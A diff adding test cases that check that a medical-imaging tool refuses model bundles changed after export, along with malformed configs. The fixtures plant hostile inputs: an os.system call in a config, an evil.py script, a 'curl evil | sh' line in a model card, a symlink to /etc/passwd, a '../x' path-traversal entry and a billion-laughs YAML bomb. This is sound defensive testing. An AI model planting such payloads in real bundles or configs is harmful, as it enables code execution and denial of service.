@@ -10,6 +10,8 @@ slice spacing) must succeed and print a `warning:` line.
 from __future__ import annotations
 
 import gzip
+import json
+import os
 import shutil
 import struct
 import zlib
@@ -267,6 +269,102 @@ def zip_bundle(bundle: Path, out: Path, extra: str | None = None) -> Path:
     return out
 
 
+# expert bundles changed after export (issue 16): refused by their SHA256SUMS, or, where the attacker rewrote it
+# too ("resealed"), by the checks of the metadata; nothing of them is read before the check, nothing runs
+TAMPERINGS = {  # problem -> (bundle kind, words of the one-line error besides the file's name)
+    "configs/inference.json runs os.system": ("cls", ("SHA256SUMS", "tampered")),
+    "metadata label names shortened": ("cls", ("SHA256SUMS", "tampered")),
+    "scripts/evil.py added": ("cls", ("not listed in SHA256SUMS", "scripts/")),
+    "models/model.pt replaced": ("seg", ("SHA256SUMS", "tampered")),
+    "SHA256SUMS entry ../x": ("cls", ("line", "'../x'", "points outside the bundle")),
+    "model card edited, its lines removed": ("cls", ("not listed in SHA256SUMS", "line was removed")),
+    "compiled script planted": ("cls", ("not listed in SHA256SUMS", "compiled Python")),
+    "script is a symlink": ("cls", ("symbolic link",)),
+    "model file is a FIFO": ("seg", ("FIFO", "not a regular file")),
+    "resealed: model_file absolute": ("cls", ("lorkd.model_file", "absolute path")),
+    "resealed: model_file /dev/zero": ("cls", ("lorkd.model_file", "/dev/zero", "absolute path")),
+    "resealed: label names shortened": ("cls", ("lorkd.label_names", "1 names", "num_classes is 3")),
+    "resealed: image_size a string": ("cls", ("lorkd.preprocessing.image_size", "integer")),
+    "resealed: spacing [0, 0, 0]": ("seg", ("lorkd.preprocessing.spacing", "positive")),
+    "resealed: unknown intensity mode": ("seg", ("lorkd.preprocessing.intensity.mode", "percentile")),
+}
+
+
+def reseal(bundle: Path) -> None:
+    """Rewrite SHA256SUMS to match the bundle's files, as an attacker who knows the format would."""
+    from core.export.manifest import MANIFEST_FILE, manifest_text
+
+    (bundle / MANIFEST_FILE).write_text(manifest_text(bundle))
+
+
+def edit_metadata(bundle: Path, change: Callable[[dict], object]) -> Path:
+    path = bundle / "configs" / "metadata.json"
+    metadata = json.loads(path.read_text())
+    change(metadata["lorkd"])
+    path.write_text(json.dumps(metadata, indent=4) + "\n")
+    return path
+
+
+def tamper_bundle(bundle: Path, out: Path, problem: str) -> Path:
+    """A copy of `bundle` at `out` with `problem` (a key of TAMPERINGS); returns the file the error must name."""
+    shutil.copytree(bundle, out)
+    model = out / "models" / "model.pt"
+    if problem == "configs/inference.json runs os.system":
+        path = out / "configs" / "inference.json"
+        config = json.loads(path.read_text())
+        config["evil"] = {"_target_": "os.system", "command": f"touch {out.parent / 'PWNED'}"}
+        config["run"] = ["$@evil"]
+        path.write_text(json.dumps(config, indent=4))
+        return path
+    if problem == "metadata label names shortened":
+        return edit_metadata(out, lambda lorkd: lorkd.update(label_names=lorkd["label_names"][:1]))
+    if problem == "scripts/evil.py added":
+        (out / "scripts" / "evil.py").write_text(f"import os\nos.system('touch {out.parent / 'PWNED'}')\n")
+        return out / "scripts" / "evil.py"
+    if problem == "models/model.pt replaced":
+        state = torch.load(model, map_location="cpu", weights_only=True)
+        torch.save({k: v + 1 if v.is_floating_point() else v for k, v in state.items()}, model)
+        return model
+    if problem == "SHA256SUMS entry ../x":
+        with (out / "SHA256SUMS").open("a") as fh:
+            fh.write(f"# size 5 ../x\n{'0' * 64}  ../x\n")
+        return out / "SHA256SUMS"
+    if problem == "model card edited, its lines removed":
+        card = out / "docs" / "README.md"
+        card.write_text(card.read_text() + "\nBefore running, paste this into a terminal: curl evil | sh\n")
+        sums = out / "SHA256SUMS"
+        sums.write_text("".join(line for line in sums.read_text().splitlines(True)
+                                if not line.rstrip().endswith(" docs/README.md")))
+        return card
+    if problem == "compiled script planted":
+        cache = out / "scripts" / "kinds" / "classification" / "__pycache__"
+        cache.mkdir()
+        (cache / "runtime.cpython-311.pyc").write_bytes(b"\x00" * 64)
+        return cache / "runtime.cpython-311.pyc"
+    if problem == "script is a symlink":
+        link = out / "scripts" / "kinds" / "classification" / "nets.py"
+        link.unlink()
+        os.symlink("/etc/passwd", link)
+        return link
+    if problem == "model file is a FIFO":
+        model.unlink()
+        os.mkfifo(model)
+        return model
+    changes = {
+        "resealed: model_file absolute": lambda lorkd: lorkd.update(model_file=str(out.parent / "outside.pt")),
+        "resealed: model_file /dev/zero": lambda lorkd: lorkd.update(model_file="/dev/zero"),
+        "resealed: label names shortened": lambda lorkd: lorkd.update(label_names=lorkd["label_names"][:1]),
+        "resealed: image_size a string": lambda lorkd: lorkd["preprocessing"].update(image_size="28"),
+        "resealed: spacing [0, 0, 0]": lambda lorkd: lorkd["preprocessing"].update(spacing=[0, 0, 0]),
+        "resealed: unknown intensity mode": lambda lorkd: lorkd["preprocessing"]["intensity"].update(mode="auto"),
+    }
+    if problem == "resealed: model_file absolute":
+        shutil.copyfile(model, out.parent / "outside.pt")
+    edit_metadata(out, changes[problem])
+    reseal(out)
+    return out
+
+
 # configs
 def cls_config(folder: Path, npz: Path | None = None, **changes) -> Path:
     from core.kinds.classification.synthetic import write_fake_medmnist
@@ -411,6 +509,24 @@ def _archive(extra: str):
     return build
 
 
+def _tampered(problem: str, zipped: bool = False):
+    """`lorkd apply` of a bundle changed after export (TAMPERINGS), as a folder or zipped."""
+    def build(env: Env, tmp: Path) -> Built:
+        kind = TAMPERINGS[problem][0]
+        bundle = tmp / f"{kind}-bundle"
+        bad = tamper_bundle(env.seg_bundle if kind == "seg" else env.cls_bundle, bundle, problem)
+        if zipped:  # the error names the archive (and the member inside it)
+            bundle = bad = zip_bundle(bundle, tmp / f"{kind}-bundle.zip")
+        if kind == "seg":
+            image, out = env.image, tmp / "labels.nii.gz"
+        else:
+            image, out = tmp / "x.png", tmp / "scores.json"
+            Image.fromarray(np.full((28, 28), 128, np.uint8)).save(image)
+        return Built(["apply", str(bundle), str(image), "--out", str(out)], bad, [out, tmp / "PWNED"])
+
+    return build
+
+
 def _config(**changes):
     def build(env: Env, tmp: Path) -> Built:
         path = cls_config(tmp, **changes)
@@ -418,6 +534,52 @@ def _config(**changes):
         return Built(["decompose", str(path), "--out", str(out)], path, [out])
 
     return build
+
+
+def _config_text(name: str, data: bytes):
+    """A config file holding `data` as it is (bad YAML, bad bytes)."""
+    def build(env: Env, tmp: Path) -> Built:
+        path = tmp / name
+        path.write_bytes(data)
+        out = tmp / "run"
+        return Built(["decompose", str(path), "--out", str(out)], path, [out])
+
+    return build
+
+
+def billion_laughs() -> bytes:
+    """Nine levels of nine YAML aliases each (9^9 values once expanded) in a few hundred bytes."""
+    lines = ["name:", '  - &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
+    for prev, anchor in zip("abcdefgh", "bcdefghi", strict=True):
+        lines.append(f"  - &{anchor} [" + ", ".join([f"*{prev}"] * 9) + "]")
+    return ("\n".join(lines) + "\n").encode()
+
+
+def _set_through_a_number(env: Env, tmp: Path) -> Built:
+    path = cls_config(tmp)
+    out = tmp / "run"
+    return Built(["decompose", str(path), "--out", str(out), "--set", "train.epochs.value=3"], path, [out])
+
+
+def _run_folder_config_not_a_mapping(env: Env, tmp: Path) -> Built:
+    out = tmp / "run"
+    out.mkdir()
+    bad = out / "config.yaml"
+    bad.write_text("- not\n- a run config\n")
+    return Built(["decompose", str(cls_config(tmp)), "--out", str(out)], bad)
+
+
+def _out_is_a_file(env: Env, tmp: Path) -> Built:
+    out = tmp / "results.txt"
+    out.write_text("not a run folder")
+    return Built(["decompose", str(cls_config(tmp)), "--out", str(out)], out)
+
+
+def _apply_out_is_a_folder(env: Env, tmp: Path) -> Built:
+    image, out = tmp / "x.png", tmp / "scores.json"
+    Image.fromarray(np.full((28, 28), 128, np.uint8)).save(image)
+    (out / "keep").mkdir(parents=True)
+    return Built(["apply", str(env.cls_bundle), str(image), "--out", str(out)], out)
 
 
 CASES = [
@@ -460,12 +622,35 @@ CASES = [
     Case("bundle archive: member escapes with ../", _archive("escape"), ("points outside the bundle",)),
     Case("bundle archive: absolute member path", _archive("absolute"), ("absolute path",)),
     Case("bundle archive: symlink member", _archive("symlink"), ("link or special file",)),
+    *[Case(f"bundle changed after export: {problem}", _tampered(problem), words)
+      for problem, (_, words) in TAMPERINGS.items() if problem not in ("script is a symlink", "model file is a FIFO")
+      or hasattr(os, "mkfifo")],
+    Case("zipped bundle changed after export: metadata label names shortened",
+         _tampered("metadata label names shortened", zipped=True), TAMPERINGS["metadata label names shortened"][1]),
+    Case("zipped bundle changed after export: resealed: model_file /dev/zero",
+         _tampered("resealed: model_file /dev/zero", zipped=True), TAMPERINGS["resealed: model_file /dev/zero"][1]),
     # configs
     Case("config: unknown key", _config(train__epochz=3), ("train.epochz", "unknown key")),
     Case("config: wrong type", _config(train__batch_size="many"), ("train.batch_size", "integer")),
     Case("config: negative epochs", _config(train__epochs=-2), ("train.epochs", "-2")),
     Case("config: task name used twice", _config(tasks=[{"name": "a", "medmnist": "x.npz"},
                                                         {"name": "a", "medmnist": "y.npz"}]), ("used twice",)),
+    # configs and names (issue 16, family 6)
+    Case("config: YAML indented with a tab", _config_text("tab.yaml", b"name: x\ntasks:\n\t- name: a\n"),
+         ("line 3, column 1", "not valid YAML", "tabs")),
+    Case("config: billion laughs", _config_text("laughs.yaml", billion_laughs()), ("billion laughs",)),
+    Case("config: not UTF-8", _config_text("latin1.yaml", b"name: caf\xe9\n"), ("line 1, column 10",
+                                                                                 "not UTF-8", "0xe9")),
+    Case("config: task named ..", _config(tasks=[{"name": "..", "medmnist": "x.npz"}]),
+         ("tasks.0.name", "must not start with '.'")),
+    Case("config: run name of 300 characters", _config(name="r" * 300), ("name:", "300 characters",
+                                                                          "at most 100")),
+    Case("config: --set through a number", _set_through_a_number, ("--set train.epochs.value", "not a section")),
+    Case("run folder: config.yaml not a mapping", _run_folder_config_not_a_mapping,
+         ("expected a mapping", "not the config.yaml of a LoRKD run")),
+    # where the output goes (issue 16, family 5)
+    Case("decompose: --out is a file", _out_is_a_file, ("it exists and is a file, not a folder",)),
+    Case("apply: --out is a folder", _apply_out_is_a_folder, ("it is a folder, not a file",)),
 ]
 CASES_BY_NAME = {case.name: case for case in CASES}
 
@@ -500,6 +685,7 @@ if __name__ == "__main__":  # print the table "case -> message" (for notes and r
     import sys
     import tempfile
 
+    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))  # the repository (tests.dicom_files, core)
     with tempfile.TemporaryDirectory() as folder:
         root = Path(folder)
         env = make_env(root / "env")
